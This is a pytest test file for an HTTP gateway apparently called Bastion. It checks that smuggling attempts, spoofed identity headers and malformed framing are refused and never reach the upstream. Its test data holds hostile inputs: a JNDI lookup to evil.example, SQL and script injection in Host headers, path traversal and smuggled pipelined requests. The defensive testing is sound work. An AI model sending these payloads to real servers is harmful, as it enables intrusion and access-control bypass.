"""Protocol and header hardening (issue 22, items 5-8, 11, 20, 24, 25), with real sockets.

Raw requests go to Bastion in front of an upstream that records every byte it receives; each case
asserts what Bastion answered and what the upstream got. The other hosts (ASGI under uvicorn, WSGI
under wsgiref, nginx with the shipped example config) get the same spoofed identity headers.
"""

from __future__ import annotations

import asyncio
import select
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from wsgiref.simple_server import WSGIRequestHandler, make_server

import httpx
import orjson
import pytest
import yaml
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from bastion.config import parse_config
from bastion.core.header_policy import IDENTITY_HEADERS
from bastion.hosts.asgi import BastionMiddleware
from bastion.hosts.wsgi import BastionWSGIMiddleware
from tests.proxy_harness import RunningProxy, raw_request, running_proxy, status_of
from tests.recording_upstream import Received, RecordingUpstream
from tests.servers import (
    ROOT,
    ThreadedUvicorn,
    bastion_process,
    free_port,
    listening_port,
    nginx_extauthz_conf,
    require_binary,
    wait_port,
)

API_KEY_AUTHN = {"methods": [{"api_key": {"header": "x-api-key"}}], "public": ["GET /public/**"]}
SPOOFED = [
    ("X-Bastion-Subject", "admin"),
    ("X-Bastion-Roles", "admin"),
    ("X-Bastion-Tenant", "victim-corp"),
    ("X-Bastion-Scopes", "admin:all"),
    ("X-Bastion-Auth-Method", "mtls"),
    ("X-Bastion-Client", "trusted-app"),
    ("X-Bastion-Key-Id", "k-admin"),
    ("X_Bastion_Subject", "admin"),
    ("X_Bastion_Roles", "admin"),
    ("x_bastion_tenant", "victim-corp"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("X_Custom", "1"),
]


def spoofed_bytes() -> bytes:
    return b"".join(f"{name}: {value}\r\n".encode() for name, value in SPOOFED)


def assert_no_spoof_reached(headers: list[tuple[str, str]]) -> None:
    leaked = [(k, v) for k, v in headers if (k, v) in SPOOFED or (k.lower().replace("_", "-") in {
        "x-bastion-tenant", "x-bastion-scopes", "x-bastion-client", "x-bastion-key-id", "x-custom",
        "x-http-method-override"} and v)]  # fmt: skip
    assert leaked == [], leaked


@pytest.fixture(scope="module")
def recording() -> Iterator[RecordingUpstream]:
    with RecordingUpstream() as upstream:
        yield upstream


def base_policy(tmp_path: Path, **extra: Any) -> dict[str, Any]:
    return {
        "routes": [{"path": "/**", "methods": ["*"]}],
        "store": {"path": str(tmp_path / "events.db")},
        "audit": {"flush_interval": "20ms"},
        **extra,
    }


@pytest.fixture
async def proxy(recording: RecordingUpstream, tmp_path: Path) -> AsyncIterator[RunningProxy]:
    async with running_proxy(recording.url, **base_policy(tmp_path)) as running:
        yield running


async def send(port: int, data: bytes, timeout: float = 1.0) -> bytes:
    return await raw_request(port, data, timeout=timeout)


# -- items 5, 6, 7: headers and framing ------------------------------------------------------------

FRAMING: list[tuple[str, bytes, int]] = [
    (
        "two authorization",
        b"GET /x HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer a.b.c\r\nAuthorization: Bearer e30.e30.\r\n\r\n",
        400,
    ),
    (
        "two content-type",
        b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Type: application/json\r\n"
        b"Content-Length: 2\r\n\r\n{}",
        400,
    ),
    ("host jndi", b"GET /x HTTP/1.1\r\nHost: ${jndi:ldap://evil.example/a}\r\n\r\n", 400),
    ("host sql", b"GET /x HTTP/1.1\r\nHost: a' OR '1'='1\r\n\r\n", 400),
    ("host script", b"GET /x HTTP/1.1\r\nHost: <script>alert(1)</script>\r\n\r\n", 400),
    ("host traversal", b"GET /x HTTP/1.1\r\nHost: ../../etc\r\n\r\n", 400),
    ("host path", b"GET /x HTTP/1.1\r\nHost: 127.0.0.1/admin\r\n\r\n", 400),
    ("host userinfo", b"GET /x HTTP/1.1\r\nHost: a@evil\r\n\r\n", 400),
    ("host forwarded", b'GET /x HTTP/1.1\r\nHost: x";for=1.2.3.4\r\n\r\n', 400),
    ("http 2.0", b"GET /x HTTP/2.0\r\nHost: a\r\n\r\n", 505),
    ("double spaces", b"GET  /x  HTTP/1.1\r\nHost: a\r\n\r\n", 400),
    ("http/1.0 with te", b"POST /x HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400),
    ("te not final chunked", b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n", 400),
]


@pytest.mark.parametrize(("name", "data", "status"), FRAMING, ids=[f[0] for f in FRAMING])
async def test_refused_and_nothing_reaches_the_upstream(
    proxy: RunningProxy, recording: RecordingUpstream, name: str, data: bytes, status: int
) -> None:
    recording.take()
    response = await send(proxy.port, data)
    assert status_of(response) == status, response[:300]
    assert response.count(b"HTTP/1.1 ") == 1
    assert recording.take() == []


@pytest.mark.parametrize("coding", [b"gzip, chunked", b"identity, chunked"])
async def test_an_unsupported_coding_closes_the_connection(
    proxy: RunningProxy, recording: RecordingUpstream, coding: bytes
) -> None:
    """Item 7: the bytes after the body must never be read as a request of their own."""
    recording.take()
    smuggled = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
    data = b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: " + coding + b"\r\n\r\n0\r\n\r\n" + smuggled
    response = await send(proxy.port, data)
    assert status_of(response) == 501
    assert response.count(b"HTTP/1.1 ") == 1  # one answer, then the connection closed
    assert recording.take() == []


async def test_a_valid_host_is_forwarded_and_an_api_key_twice_is_refused(
    recording: RecordingUpstream, tmp_path: Path
) -> None:
    routes = [{"path": "/public/**", "methods": ["GET"]}, {"path": "/items", "methods": ["GET"]}]
    policy = base_policy(tmp_path, secrets={"key": "x" * 40}, authn=API_KEY_AUTHN, routes=routes)
    async with running_proxy(recording.url, **policy) as running:
        recording.take()
        ok = await send(running.port, b"GET /public/a HTTP/1.1\r\nHost: api.example.com:8443\r\n\r\n")
        assert status_of(ok) == 200
        (received,) = recording.take()
        assert received.header("x-forwarded-host") == "api.example.com:8443"
        twice = b"GET /items HTTP/1.1\r\nHost: a\r\nX-API-Key: k1\r\nX-Api-Key: k2\r\n\r\n"
        assert status_of(await send(running.port, twice)) == 400
        assert recording.take() == []


# -- item 20 and 24: identity headers in every spelling, in every host ----------------------------


async def test_proxy_strips_every_spelling_of_gateway_headers(
    proxy: RunningProxy, recording: RecordingUpstream
) -> None:
    recording.take()
    response = await send(proxy.port, b"GET /public/a HTTP/1.1\r\nHost: a\r\n" + spoofed_bytes() + b"\r\n")
    assert status_of(response) == 200
    (received,) = recording.take()
    assert_no_spoof_reached(received.headers)
    assert not any("bastion" in name.lower() for name, _ in received.headers), received.headers


async def test_allowed_underscore_headers_pass_and_refusal_can_be_chosen(
    recording: RecordingUpstream, tmp_path: Path
) -> None:
    allowing = base_policy(tmp_path, ingress={"allow_underscore_headers": ["x_custom"]})
    async with running_proxy(recording.url, **allowing) as running:
        recording.take()
        assert status_of(await send(running.port, b"GET /a HTTP/1.1\r\nHost: a\r\nX_Custom: 1\r\n\r\n")) == 200
        (received,) = recording.take()
        assert received.header("x_custom") == "1"
    refusing = base_policy(tmp_path, ingress={"underscore_headers": "refuse"})
    async with running_proxy(recording.url, **refusing) as running:
        assert status_of(await send(running.port, b"GET /a HTTP/1.1\r\nHost: a\r\nX_Custom: 1\r\n\r\n")) == 400
        assert recording.take() == []


# The middleware's first answer builds its engine (0.5 s alone); a suite run beside other CPU-bound
# work once took past httpx's 5 s default (two ReadTimeouts, 2026-12-05).
SLOW_FIRST_ANSWER = 30.0


async def echo_headers(request: Request) -> JSONResponse:
    return JSONResponse({"headers": list(request.headers.items()), "path": request.url.path})


def test_asgi_application_never_sees_spoofed_identity(tmp_path: Path) -> None:
    app = Starlette(routes=[Route("/{rest:path}", echo_headers)])
    app.add_middleware(BastionMiddleware, config=parse_config(yaml.safe_dump(base_policy(tmp_path))))
    with ThreadedUvicorn(app) as server:
        response = httpx.get(f"{server.url}/public/a", headers=SPOOFED, timeout=SLOW_FIRST_ANSWER)
    assert response.status_code == 200
    assert_no_spoof_reached([tuple(pair) for pair in response.json()["headers"]])


def test_asgi_under_a_root_path(tmp_path: Path) -> None:
    """Item 25: uvicorn --root-path puts the prefix in the path; routes are the application's own."""
    policy = base_policy(tmp_path, routes=[{"path": "/items/{id}", "methods": ["GET"]}])
    app = Starlette(routes=[Route("/items/{id}", echo_headers)])
    app.add_middleware(BastionMiddleware, config=parse_config(yaml.safe_dump(policy)))
    with ThreadedUvicorn(app, root_path="/prefix") as server:
        response = httpx.get(f"{server.url}/items/7", timeout=SLOW_FIRST_ANSWER)
        assert response.status_code == 200, response.text
        assert httpx.get(f"{server.url}/other", timeout=SLOW_FIRST_ANSWER).status_code == 404


class _QuietHandler(WSGIRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        return None


def test_wsgi_application_never_sees_spoofed_identity(tmp_path: Path) -> None:
    """wsgiref keeps underscore header names: X_Bastion_Roles becomes HTTP_X_BASTION_ROLES."""
    seen: dict[str, Any] = {}

    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
        seen.update({k: v for k, v in environ.items() if k.startswith("HTTP_")})
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"ok"]

    middleware = BastionWSGIMiddleware(app, parse_config(yaml.safe_dump(base_policy(tmp_path))))
    port = free_port()
    server = make_server("127.0.0.1", port, middleware, handler_class=_QuietHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        response = httpx.get(f"http://127.0.0.1:{port}/public/a", headers=SPOOFED, timeout=SLOW_FIRST_ANSWER)
        assert response.status_code == 200
    finally:
        server.shutdown()
        middleware.close()
    assert not [k for k in seen if "BASTION" in k or "METHOD_OVERRIDE" in k], seen


def test_nginx_example_never_passes_a_spoofed_identity(tmp_path: Path) -> None:
    """The shipped examples/nginx/nginx.conf, with Bastion deciding, in front of a recording upstream."""
    nginx = require_binary("nginx", "nginx")
    env = {"DEMO_JWT_SECRET": "demo-jwt-secret-for-the-tests-0123456789", "BASTION_SECRET": "n" * 40,
           "BASTION_STATE_DIR": str(tmp_path)}  # fmt: skip
    nginx_port = free_port()
    with RecordingUpstream() as upstream:
        policy = ROOT / "examples/nginx/bastion.yaml"
        with bastion_process(policy, "--port", "0", env=env) as process:
            bastion_port = listening_port(process, timeout=30)  # nginx is told where Bastion listens once it does
            (tmp_path / "nginx.conf").write_text(nginx_extauthz_conf(upstream.port, bastion_port, nginx_port))
            web = subprocess.Popen([nginx, "-c", str(tmp_path / "nginx.conf"), "-p", str(tmp_path), "-g",
                                    "daemon off;"], stderr=subprocess.PIPE)  # fmt: skip
            try:
                wait_port(nginx_port)
                response = httpx.get(f"http://127.0.0.1:{nginx_port}/api/products", headers=SPOOFED)
            finally:
                web.terminate()
                web.wait(timeout=10)
        assert response.status_code == 200
        (received,) = upstream.take()
    assert_no_spoof_reached(received.headers)
    assert all(not value for name, value in received.headers if name.lower() in IDENTITY_HEADERS)


def test_envoy_example_removes_every_identity_header() -> None:
    """Envoy is not installable here; its example must at least remove the one list and drop underscores."""
    config = yaml.safe_load((ROOT / "examples/envoy/envoy.yaml").read_text())
    manager = config["static_resources"]["listeners"][0]["filter_chains"][0]["filters"][0]["typed_config"]
    assert manager["common_http_protocol_options"]["headers_with_underscores_action"] == "DROP_HEADER"
    first = manager["http_filters"][0]
    assert first["name"] == "envoy.filters.http.header_mutation"
    removed = {m["remove"] for m in first["typed_config"]["mutations"]["request_mutations"]}
    assert set(IDENTITY_HEADERS) <= removed
    assert {"x-http-method-override", "x-original-url", "x-rewrite-url"} <= removed


# -- item 8: refusals before a request existed are audited, and a smuggling scan is detected ------


async def test_unparsed_refusals_are_audited_and_raise_the_smuggling_detector(
    recording: RecordingUpstream, tmp_path: Path
) -> None:
    store = tmp_path / "events.db"
    policy = base_policy(
        tmp_path,
        secrets={"key": "s" * 40},
        detect={
            "detectors": [
                {"id": "smuggling", "kind": "smuggling", "window": "60s", "threshold": 10, "respond": ["incident"]}
            ]
        },
    )
    shapes = [
        b"GET /x HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"GET  /x HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n",
        b"GET /x HTTP/1.1\r\nBad Header: 1\r\n\r\n",
        b"GET /x HTTP/1.1\nHost: a\n\n\x00",
        b"FOO /x HTTP/1.1\r\nHost: a\r\n\r\n",
    ]
    async with running_proxy(recording.url, **policy) as running:
        answers = [await send(running.port, shapes[i % len(shapes)], timeout=0.5) for i in range(12)]
        assert all(400 <= status_of(a) < 600 for a in answers), [a[:40] for a in answers]
        events = await _wait_for(store, "SELECT event FROM audit_events", lambda rows: len(rows) >= 12)
        alerts = await _wait_for(store, "SELECT detector FROM alerts", lambda rows: len(rows) >= 1)
    rules = [orjson.loads(row[0])["rules"] for row in events]
    assert all(r and r[0]["rule"].startswith(("ingress.protocol.", "ingress.smuggling", "ingress.")) for r in rules)
    first = orjson.loads(events[0][0])
    assert first["client"] == "127.0.0.1"
    assert "\\r" not in first["rules"][0]["reason"] or "'" in first["rules"][0]["reason"]  # escaped preview
    assert alerts[0][0] == "smuggling"


async def test_a_flood_of_unparsed_refusals_does_not_fill_the_store(
    recording: RecordingUpstream, tmp_path: Path
) -> None:
    store = tmp_path / "events.db"
    async with running_proxy(recording.url, **base_policy(tmp_path)) as running:
        for _ in range(60):
            await send(running.port, b"GET  /x HTTP/1.1\r\n\r\n", timeout=0.3)
        rows = await _wait_for(store, "SELECT count(*) FROM audit_events", lambda r: r[0][0] >= 20)
        assert running.server.state.refusals.unrecorded >= 30
    assert rows[0][0] < 30  # a burst of 20, then about one a second


async def _wait_for(store: Path, query: str, done: Any, timeout: float = 10.0) -> list[Any]:
    deadline = time.monotonic() + timeout
    rows: list[Any] = []
    while time.monotonic() < deadline:
        if store.exists():
            with sqlite3.connect(store) as db:
                try:
                    rows = db.execute(query).fetchall()
                except sqlite3.OperationalError:
                    rows = []
            if rows and done(rows):
                return rows
        await asyncio.sleep(0.05)
    raise AssertionError(f"not in time: {query} -> {rows}")


# -- item 11: shutdown ---------------------------------------------------------------------------


@pytest.mark.parametrize("workers", [1, 4])
def test_sigterm_exits_at_once_when_idle(tmp_path: Path, recording: RecordingUpstream, workers: int) -> None:
    """Idle keep-alive connections do not hold the drain timeout (30 s here): exit right away."""
    policy = tmp_path / "bastion.yaml"
    policy.write_text(yaml.safe_dump({**base_policy(tmp_path), "listen": {"host": "127.0.0.1", "port": 0,
                                      "timeouts": {"drain": "30s"}}, "upstream": {"url": recording.url},
                                      "workers": workers}))  # fmt: skip
    with bastion_process(policy) as proc:
        port = listening_port(proc, timeout=30)
        with httpx.Client() as client:  # keep-alive connections left open, idle
            for _ in range(8):
                assert client.get(f"http://127.0.0.1:{port}/x").status_code == 200
            started = time.monotonic()
            proc.send_signal(signal.SIGTERM)
            assert proc.wait(timeout=20) == 0
            elapsed = time.monotonic() - started
    assert elapsed < 5, f"took {elapsed:.1f}s: idle connections held the drain"


def test_the_cli_checks_the_new_ingress_settings() -> None:
    policy = {"routes": [{"path": "/**"}], "ingress": {"method_override": [{"header": "x-http-method-override",
              "paths": ["/legacy/**"], "methods": ["FROB"]}]}}  # fmt: skip
    result = subprocess.run([sys.executable, "-m", "bastion", "check", "--config", "/dev/stdin"],
                            input=yaml.safe_dump(policy), capture_output=True, text=True, timeout=60)  # fmt: skip
    assert result.returncode != 0
    assert "FROB" in result.stderr + result.stdout


# -- refusals survive the close: half-close and drain (hosts/http1/linger.py) -------------------------


def _post_and_read(port: int, body_size: int) -> bytes:
    """A client that sends its whole request before reading, as most clients do."""
    head = f"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: {body_size}\r\n\r\n"
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        try:
            sock.sendall(head.encode() + b"x" * body_size)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server may stop reading: what it answered is still to be read
        received = b""
        while chunk := sock.recv(65536):
            received += chunk
        return received


@pytest.mark.parametrize("body_size", [16 * 1024, 512 * 1024, 8 * 1024 * 1024])
async def test_a_refused_client_still_sending_reads_its_refusal(
    recording: RecordingUpstream, tmp_path: Path, body_size: int
) -> None:
    """Past the connection cap the refusal is written at once while the client is still sending; a
    close with unread input would reset the connection and the client would never see the 503."""
    policy = base_policy(tmp_path, listen={"max_connections": 1})
    async with running_proxy(recording.url, **policy) as running:
        _, holder = await asyncio.open_connection("127.0.0.1", running.port)  # takes the only slot
        try:
            for _ in range(5):
                answer = await asyncio.to_thread(_post_and_read, running.port, body_size)
                assert status_of(answer) == 503, answer[:200]
                assert b"application/problem+json" in answer
        finally:
            holder.close()


class _SlowUpstream(RecordingUpstream):
    """Answers after a pause, as a busy single-threaded server does: the client's next bytes arrive
    while its request is still being served."""

    def answer(self, received: Received) -> object:
        time.sleep(0.3)
        return super().answer(received)


def _send_in_two_and_read(port: int, first: bytes, later: bytes) -> bytes:
    """A client that writes its request, then more (a broken or pipelined follow-up), and reads once
    it has written everything; a write that fails ends the exchange, as in most HTTP clients (and
    the fuzzer's): the server reset the connection, whatever it answered is taken as lost."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.sendall(first)
        time.sleep(0.05)
        sock.sendall(later)
        select.select([sock], [], [], 5)  # the upstream's answer has arrived (it takes 0.3 s) ...
        time.sleep(0.05)  # ... and the gateway, writing it, has closed behind it
        try:
            sock.sendall(later)
        except (BrokenPipeError, ConnectionResetError):
            return b"write failed: the connection was reset"
        received = b""
        while chunk := sock.recv(65536):
            received += chunk
        return received


FOLLOW_UPS = [
    ("garbage after the request", b"\x01\x02 not http\r\n\r\n", b"x" * 4096),
    ("a request after Connection: close", b"GET /b HTTP/1.1\r\nHost: a\r\n\r\n", b"GET /c HTTP/1.1\r\nHost: a\r\n\r\n"),
]


@pytest.mark.parametrize(("case", "follow", "later"), FOLLOW_UPS, ids=[c for c, _, _ in FOLLOW_UPS])
async def test_an_answered_request_survives_the_close_while_the_client_sends(
    tmp_path: Path, case: str, follow: bytes, later: bytes
) -> None:
    """The gateway closes after the answer (the stream broke, or the client asked for close) while
    more bytes it will never read are arriving: closing with unread input resets the connection, and
    the reset would destroy the answer the upstream gave (found by the protocol fuzzer)."""
    close = b"Connection: close\r\n" if "close" in case else b""
    first = b"GET /a HTTP/1.1\r\nHost: a\r\n" + close + b"\r\n" + follow
    with _SlowUpstream() as upstream:
        async with running_proxy(upstream.url, **base_policy(tmp_path)) as running:
            for _ in range(3):
                answer = await asyncio.to_thread(_send_in_two_and_read, running.port, first, later)
                assert status_of(answer) == 200, answer[:300]
                assert b'"target": "/a"' in answer, answer[:300]
